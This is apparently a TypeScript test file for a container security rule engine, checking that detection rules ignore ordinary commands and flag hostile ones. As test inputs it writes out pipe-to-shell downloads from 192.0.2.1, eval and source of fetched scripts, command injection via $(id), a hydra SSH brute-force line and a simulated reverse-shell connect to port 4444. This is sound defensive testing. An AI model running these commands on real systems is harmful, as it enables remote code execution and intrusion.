/** What ordinary programs do is told by none of the shipped rules, and what looks much like it is. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  CALL,
  CONNECT,
  type ContainerFacts,
  EVENT_NAMES,
  EXE_FLAG,
  HEADER,
  KernelEvent,
  type LivingFacts,
  OPEN,
  PathNames,
  type ProcessFacts,
  RECORD,
  unknownProcess,
} from '../events/index.ts';
import { RuleEngine } from './engine.ts';
import { readShippedRules } from './shipped-rules.ts';

const CONTAINER: ContainerFacts = {
  ...{ id: 'c'.repeat(64), name: 'web', project: 'p', environment: 'e', workload: 'web', pod: 'web' },
  ...{ container: 'web', image: 'registry/p/web:1', digest: null },
};
const SECOND = 1e9;
const engine = RuleEngine.load(readShippedRules());
const OVER_TIME = new Set(['Network scanned from a container', 'Surroundings explored in a container']);

/** A line as people write it: the first word names the program's file, quotes hold words together. */
function program(line: string, more: Partial<ProcessFacts> = {}): ProcessFacts {
  const words = [...line.matchAll(/"((?:[^"\\]|\\.)*)"|(\S+)/gs)].map(([, quoted, bare]) =>
    quoted === undefined ? (bare ?? '') : quoted.replaceAll('\\"', '"'),
  );
  const [file = '', ...args] = words;
  const name = file.slice(file.lastIndexOf('/') + 1);
  const exePath = file.startsWith('/') ? file : `/usr/bin/${file}`;
  return { ...unknownProcess(70, 100 * SECOND, name), exe: file, exePath, args, innerPid: 7, ...more };
}

interface Around {
  readonly line?: readonly ProcessFacts[];
  readonly atSecond?: number;
  readonly living?: Partial<LivingFacts>;
  readonly write?: (bytes: Buffer) => void;
}

/** The rules that hold for what the program does; its own start where nothing else is said. */
function told(process: ProcessFacts, type: number = RECORD.exec, around: Around = {}): string[] {
  const memory = new ArrayBuffer(2_048);
  const bytes = Buffer.from(memory);
  bytes.writeUInt16LE(type, 0);
  bytes.writeBigUInt64LE(BigInt(around.atSecond ?? 1_000) * BigInt(SECOND), HEADER.time);
  bytes.writeUInt32LE(process.innerPid, HEADER.inner_pid);
  around.write?.(bytes);
  const line = [process, ...(around.line ?? [])];
  const surroundings = {
    parentOf: (one: ProcessFacts) => line[line.indexOf(one) + 1],
    ...{ processOf: () => undefined, userName: () => null, groupName: () => null },
    ask: () => (around.living ?? null) as LivingFacts | null,
    ...{ wallOffsetNs: 1.7e18, bootOffsetNs: 0 },
  };
  const event = new KernelEvent(memory, surroundings, new PathNames());
  event.load(0);
  event.process = process;
  event.container = CONTAINER;
  const held = (engine.match(event) ?? []).map((one) => engine.ruleName(type, one) ?? '');
  // Rules over time hold only after many events.
  return held.filter((name) => !OVER_TIME.has(name));
}

const shell = (script: string): ProcessFacts => ({ ...program('/bin/sh'), args: ['-c', script] });

test('health checks and scripts that look at what they fetched are no download that is run', () => {
  const ordinary = [
    'curl --silent --fail localhost:9200/_cluster/health || exit 1',
    'test "$(curl -s -o /dev/null -w %{http_code} http://localhost/)" = 200',
    'STATUS=$(curl -s localhost:8080/status); [ "$STATUS" = ok ]',
    'curl -s localhost:9200/_cat/shards | grep -v UNASSIGNED',
    'until curl -s https://es01:9200 | grep -q "missing credentials"; do sleep 30; done',
    'curl -fsS http://localhost/ping || sh /recover.sh',
    'wget -qO- http://localhost/metrics | grep finish_total',
    'curl -s localhost:8500/v1/status/leader | python3 -m json.tool',
    'curl -s localhost/x | python -c "import json,sys; print(json.load(sys.stdin))"',
    'curl -s http://hash.example/x | sha256sum -c',
    'echo "$(curl -s localhost/version)" > /tmp/version',
    'if [ $(curl -s localhost/n) -gt 3 ]; then exit 1; fi',
  ];
  for (const script of ordinary) assert.deepEqual(told(shell(script)), [], script);
  const runs = [
    'curl http://192.0.2.1/x | sh',
    'curl -sSL https://get.example.com|bash -s -- --yes',
    'wget -qO- http://192.0.2.1/x | sudo bash',
    'curl http://192.0.2.1/x | tee /tmp/x | /bin/sh',
    'wget -O - http://192.0.2.1/x |busybox sh',
    'curl -s http://192.0.2.1/x | python3',
    'curl -s http://192.0.2.1/x | python3 -',
    'curl -s http://192.0.2.1/x | perl; true',
    'bash <(curl -s http://192.0.2.1/x)',
    'eval "$(curl -s http://192.0.2.1/x)"',
    'source <(curl -s http://192.0.2.1/x)',
    'true; sh -c "$(wget -qO- http://192.0.2.1/x)"',
    '$(curl -s http://192.0.2.1/x)',
    'cd /tmp; `curl -s http://192.0.2.1/x`',
    'curl -o /tmp/x http://192.0.2.1/x && chmod +x /tmp/x && /tmp/x',
    ': "curl http://192.0.2.1/x | sh"',
  ];
  for (const script of runs) assert.deepEqual(told(shell(script)), ['Download run at once'], script);
});

test('questions about packages are no installation', () => {
  const RULE = 'Package manager run in a container';
  const asked = [
    'apk manifest nginx',
    'apk info -e curl',
    'dpkg -l',
    'dpkg --print-architecture',
    'dpkg-query --show nginx',
    'rpm -q glibc',
    'rpm -qa',
    'apt list --installed',
    'npm start',
    'npm run build',
    'yarn start',
    'bundle exec puma',
    'pip list',
    'npm run serve --prefix /opt/installation',
  ];
  for (const line of asked) assert.deepEqual(told(program(line)), [], line);
  const changed = [
    'apt install curl',
    'apt-get -y install curl',
    'apt',
    'apk add curl',
    'apk --no-cache add curl',
    'dpkg -i /tmp/x.deb',
    'rpm -i x.rpm',
    'rpm -qa --pipe id',
    'rpm --eval %(id)',
    'npm install left-pad',
    'npm i left-pad',
    'npm ci',
    'yarn add left-pad',
    'pip install x',
    'npm node /usr/bin/npm install',
  ];
  for (const line of changed) assert.deepEqual(told(program(line)), [RULE], line);
});

test('servers that have the name of an attack tool are none', () => {
  const RULE = 'Attack tool started in a container';
  for (const line of [
    'hydra serve all --dev',
    'hydra migrate sql -e --yes',
    'medusa node /app/node_modules/.bin/medusa start',
    'medusa develop',
    'cdk deploy --all',
    'cdk node /usr/bin/cdk synth',
  ])
    assert.deepEqual(told(program(line)), [], line);
  for (const line of [
    'hydra -l root -P words ssh://192.0.2.1',
    'medusa -h 192.0.2.1 -u root -P words -M ssh',
    'cdk evaluate --full',
    'cdk run shim-pwn',
    'nmap 192.0.2.1',
  ])
    assert.deepEqual(told(program(line)), [RULE], line);
});

test('what PostgreSQL and MariaDB start of their own is no shell of an attack, and what a client has them start is', () => {
  const RULE = 'Shell started by a server';
  const server = program('/usr/lib/postgresql/15/bin/postgres -D /data', { pid: 60, startedNs: 50 * SECOND });
  const by = (commandLine: string): string[] =>
    told(shell('test ! -f /wal/1 && cp pg_wal/1 /wal/1'), RECORD.exec, { line: [server], living: { commandLine } });
  for (const title of [
    'postgres: archiver archiving 000000010000000000000001',
    'postgres: archiver last was 000000010000000000000001',
    'postgres: archiver failed on 000000010000000000000001.partial',
    'postgres: 15/main: archiver ',
    'postgres: startup recovering 000000010000000000000001',
    'postgres: checkpointer ',
  ])
    assert.deepEqual(by(title), [], title);
  for (const title of [
    'postgres: app shop 10.89.0.4(41234) COPY',
    'postgres: archiver last [local] COPY',
    'postgres: archiver archiving 10.0.0.1(5) COPY',
    '/usr/lib/postgresql/15/bin/postgres -D /data',
    '',
  ])
    assert.deepEqual(by(title), [RULE], title);
  assert.deepEqual(told(shell('id'), RECORD.exec, { line: [server] }), [RULE], 'nobody knows what it is');
  const making = program('/usr/lib/postgresql/15/bin/postgres --single -F -O template1', { pid: 60 });
  assert.deepEqual(told(shell('locale -a'), RECORD.exec, { line: [making] }), []);

  const mariadb = program('/usr/sbin/mariadbd', { pid: 60, startedNs: 50 * SECOND });
  const starts = (script: string): string[] => told(shell(script), RECORD.exec, { line: [mariadb] });
  assert.deepEqual(starts("wsrep_sst_rsync --role 'joiner' --address '10.0.0.1' --datadir '/var/lib/mysql/'"), []);
  assert.deepEqual(starts("wsrep_sst_rsync --role 'x'; id"), [RULE]);
  assert.deepEqual(starts('wsrep_sst_rsync $(id)'), [RULE]);
  assert.deepEqual(starts('id'), [RULE]);
});

test('what an image does when its container starts is told of who comes later, or by another way', () => {
  const conmon = program('/usr/bin/conmon', { pid: 50, innerPid: 50, startedNs: 90 * SECOND });
  const first = program('/bin/sh /entrypoint', { pid: 60, innerPid: 1, startedNs: 995 * SECOND });
  const write = (path: string) => (bytes: Buffer) => writeOpen(bytes, path, 1);
  const opened = (process: ProcessFacts, line: readonly ProcessFacts[], atSecond: number): string[] =>
    told(process, RECORD.openat, { line, atSecond, write: write('/etc/passwd') });
  const usermod = program('/usr/bin/sed -i x /etc/passwd');
  const RULE = 'Accounts of a container changed';
  assert.deepEqual(opened(usermod, [first, conmon], 1_000), []);
  assert.deepEqual(opened(usermod, [first, conmon], 1_030), [RULE], 'half a minute later');
  assert.deepEqual(opened(usermod, [program('/bin/sh', { pid: 61 }), conmon], 1_000), [RULE], 'a session');
  assert.deepEqual(opened({ ...usermod, exeFlags: EXE_FLAG.upperLayer }, [first, conmon], 1_000), [RULE]);
  const own = program('/bin/sh', { pid: 66, innerPid: 1, startedNs: 999 * SECOND });
  const session = program('/bin/sh', { pid: 65, innerPid: 9, startedNs: 998 * SECOND });
  assert.deepEqual(opened(usermod, [own, session, conmon], 1_000), [RULE], 'a namespace of its own');
  assert.deepEqual(opened(usermod, [first], 1_000), [RULE], 'nobody knows who started it');
  assert.deepEqual(opened(usermod, [first, unknownProcess(50, 0, 'conmon')], 1_000), [RULE]);
});

test('a terminal that the container has from its start is no session', () => {
  const RULE = 'Terminal opened in a container';
  const opens = (innerPid: number, above: ProcessFacts): string[] =>
    told(program('/bin/sh'), RECORD.exec, {
      line: [above],
      write: (bytes) => {
        bytes.writeUInt32LE(0x8800, HEADER.tty);
        bytes.writeUInt32LE(70, HEADER.session);
        bytes.writeUInt32LE(above.pid, HEADER.ppid);
        bytes.writeUInt32LE(innerPid, HEADER.inner_pid);
      },
    });
  const monitor = program('/usr/bin/conmon', { pid: 50, innerPid: 50 });
  assert.deepEqual(opens(1, monitor), []);
  assert.deepEqual(opens(7, monitor), [RULE]);
  assert.deepEqual(opens(1, program('/usr/bin/unshare', { pid: 60, innerPid: 9 })), [RULE], 'a namespace of its own');
  assert.deepEqual(opens(1, unknownProcess(50, 0, 'x')), [RULE], 'nobody knows who started it');
});

test('a program that only has another owner is the image’s', () => {
  const RULE = 'Program not in the image executed';
  const moved = program('/app/server', { exeFlags: EXE_FLAG.upperLayer });
  assert.deepEqual(told(moved, RECORD.exec, { living: { isOfImage: () => true } }), []);
  assert.deepEqual(told(moved, RECORD.exec, { living: { isOfImage: () => false } }), [RULE]);
  assert.deepEqual(told(moved), [RULE], 'a recording does not say it');
});

test('the bit of a folder gives nobody rights; that of a file does', () => {
  const RULE = 'Setuid or setgid bit set in a container';
  const CHMOD = EVENT_NAMES.indexOf('chmod');
  const change = (mode: number, kind: number): string[] =>
    told(program('/bin/chmod'), CHMOD, {
      write: (bytes) => {
        bytes.writeBigUInt64LE(BigInt(mode), CALL.arguments + 8);
        bytes.writeUInt32LE(kind, CALL.mode);
      },
    });
  assert.deepEqual(change(0o3775, 0o040_755), []);
  assert.deepEqual(change(0o2755, 0o100_755), [RULE]);
  assert.deepEqual(change(0o4755, 0o100_755), [RULE]);
  assert.deepEqual(change(0o2755, 0), [RULE], 'nobody knows of what');
});

test('a socket that waits is no terminal, one that is connected is, also when it is connected afterwards', () => {
  const RULE = 'Network connection became the terminal of a program';
  const DUP2 = EVENT_NAMES.indexOf('dup2');
  const dup = (local: number, remote: number, file = '/usr/sbin/php-fpm8.2'): string[] =>
    told(program(file), DUP2, {
      write: (bytes) => {
        bytes.writeUInt16LE(2, CALL.family);
        bytes.writeUInt16LE(1, CALL.is_socket);
        bytes.writeUInt16LE(6, CALL.protocol);
        bytes.writeUInt16LE(local, CALL.local_port);
        bytes.writeUInt16LE(remote, CALL.remote_port);
      },
    });
  assert.deepEqual(dup(9_000, 0), []);
  assert.deepEqual(dup(9_000, 41_000), [RULE]);
  assert.deepEqual(dup(0, 0), [RULE], 'one that is nothing yet');
  for (const server of ['/usr/sbin/sshd', '/usr/sbin/vsftpd']) {
    assert.deepEqual(dup(22, 41_000, server), [], server);
    assert.deepEqual(dup(41_000, 22, server), [RULE], server);
  }
  const connect = (descriptor: number, protocol = 6): string[] =>
    told(program('/usr/bin/perl'), RECORD.connect, {
      write: (bytes) => {
        bytes.writeInt32LE(descriptor, CONNECT.descriptor);
        bytes.writeUInt16LE(2, CONNECT.family);
        bytes.writeUInt16LE(protocol, CONNECT.protocol);
        bytes.writeUInt16LE(4_444, CONNECT.remote_port);
        bytes.writeUInt8(192, CONNECT.remote);
      },
    });
  assert.deepEqual(connect(5), []);
  assert.deepEqual(connect(0), [RULE]);
  assert.deepEqual(connect(0, 17), []);
});

test('a public key is no credential', () => {
  const RULE = 'Credentials read by a foreign program';
  const read = (path: string): string[] =>
    told(program('/bin/cat'), RECORD.openat, { write: (bytes) => writeOpen(bytes, path, 0) });
  assert.deepEqual(read('/root/.ssh/id_ed25519.pub'), []);
  assert.deepEqual(read('/root/.ssh/id_ed25519'), [RULE]);
});

/** The path as the kernel's part writes it, its parts the other way round; opened to read (0) or to write (1). */
function writeOpen(bytes: Buffer, path: string, access: 0 | 1): void {
  const reversed = `${path.slice(1).split('/').reverse().join('\0')}\0`;
  bytes.writeInt32LE(5, OPEN.result);
  bytes.writeUInt32LE(access, OPEN.open_flags);
  bytes.writeUInt32LE(Buffer.byteLength(reversed), OPEN.path_length);
  bytes.write(reversed, OPEN.bytes, 'latin1');
}
